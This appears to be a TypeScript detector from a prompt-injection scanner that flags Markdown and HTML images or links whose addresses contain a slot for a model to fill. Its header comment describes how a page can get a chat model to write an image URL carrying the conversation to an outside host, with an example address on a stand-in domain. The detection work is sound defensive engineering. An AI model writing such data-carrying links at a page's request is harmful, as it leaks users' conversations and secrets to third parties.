// Images and links that carry data away. A chat renders Markdown the model writes: an image the
// model copies from a page is fetched at once, with whatever the page asked the model to put in its
// address (`![](https://x.example/p.gif?q={the conversation})`), and a link sends it when clicked.
// So an image or link in a result is a finding unless its address is literal: absolute addresses are
// read for a slot the model is to fill (brackets, braces, `$NAME`, blanks, an ellipsis, words such as
// "insert" or "conversation" in the query), and only one without any is ordinary.

/** One image or link whose address carries data, with the address as written. */
export interface DataLink {
  kind: 'image' | 'link';
  url: string;
}

/** Markdown inline images and links: `![alt](url "title")`, `[text](url)`. */
const INLINE = /(!?)\[[^\]\n]{0,500}\]\(([^)\n]{1,4000})\)/g;
/** Reference definitions (`[id]: url`), and whether an image uses the id is not known: read as a link, and as an image when one does. */
const REFERENCE = /^[ \t]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?([^\s>]{1,4000})>?/gm;
const REFERENCE_IMAGE = /!\[([^\]\n]{0,500})\]\[([^\]\n]{0,200})\]/g;
/** Autolinks: `<https://…>`. */
const AUTOLINK = /<((?:https?|wss?|ftp):\/\/[^\s<>]{1,4000})>/gi;
/** HTML images: `<img … src="…">` (also srcset's first address). */
const HTML_IMAGE = /<img\b[^>]{0,2000}?\b(?:src|srcset)\s*=\s*(?:"([^"]{1,4000})"|'([^']{1,4000})'|([^\s>]{1,4000}))/gi;

/**
 * A slot in an address for the model to fill: braces, angle or square brackets, a `$NAME`, their
 * percent-encoded forms, blanks, an ellipsis. An address without one is literal: whatever it sends,
 * the page wrote it, and nothing of the conversation goes with it.
 */
const SLOT = /[{}<>[\]\s^`]|%7[bcd]|%3[ce]|%5[bd]|\$[A-Za-z_{(]|…/i;
/** The same, read in the decoded address, where blanks and signs are ordinary text (`code%20style`). */
const DECODED_SLOT = /[{}<>[\]]|\$[A-Za-z_{(]|…/;
/** What else is a slot in a query or fragment (a path may hold `...`, as GitHub's compare pages do). */
const QUERY_SLOT = /\.\.\.|(?:^|[^a-z])(?:insert|placeholder|your[_-]?(?:data|message|answer|secret|key|token)|conversation|chat[_-]?history|user[_-]?(?:message|input|data|query))(?:$|[^a-z])/i;

/** Whether an address has a slot for the model to fill (see SLOT). */
function carriesData(url: string): boolean {
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1]?.toLowerCase();
  // A relative address is the page's own; a data: image carries nothing away.
  if (scheme === undefined || scheme === 'data') return false;
  let decoded = url;
  try { decoded = decodeURIComponent(url); } catch { /* a malformed escape is read as written */ }
  if (SLOT.test(url) || DECODED_SLOT.test(decoded)) return true;
  const query = (text: string): string => text.replace(/^[^?#]*/, '');
  return QUERY_SLOT.test(query(url)) || QUERY_SLOT.test(query(decoded));
}

/** The address of an inline link's `(…)`: without a title after it, or the `<…>` around it. */
function destination(inside: string): string {
  // A title is cut from its opening quote: the `(…)` may have ended at a parenthesis inside the title.
  const trimmed = inside.trim().replace(/\s+["'(].*$/, '');
  return trimmed.startsWith('<') && trimmed.endsWith('>') ? trimmed.slice(1, -1).trim() : trimmed;
}

/** The images and links in `text` whose address carries data (each address once). */
export function findDataLinks(text: string): DataLink[] {
  if (!/[[<]/.test(text)) return [];
  const found: DataLink[] = [];
  const seen = new Set<string>();
  const note = (kind: DataLink['kind'], url: string): void => {
    const key = `${kind} ${url}`;
    if (seen.has(key) || !carriesData(url)) return;
    seen.add(key);
    found.push({ kind, url });
  };
  for (const match of text.matchAll(INLINE)) note(match[1] === '!' ? 'image' : 'link', destination(match[2]));
  const references = new Map<string, string>();
  for (const match of text.matchAll(REFERENCE)) {
    references.set(match[1].trim().toLowerCase(), match[2]);
    note('link', match[2]);
  }
  for (const match of text.matchAll(REFERENCE_IMAGE)) {
    const url = references.get((match[2].trim() === '' ? match[1] : match[2]).trim().toLowerCase());
    if (url !== undefined) note('image', url);
  }
  for (const match of text.matchAll(AUTOLINK)) note('link', match[1]);
  for (const match of text.matchAll(HTML_IMAGE)) note('image', (match[1] ?? match[2] ?? match[3]).trim().split(/\s+/)[0]);
  return found;
}
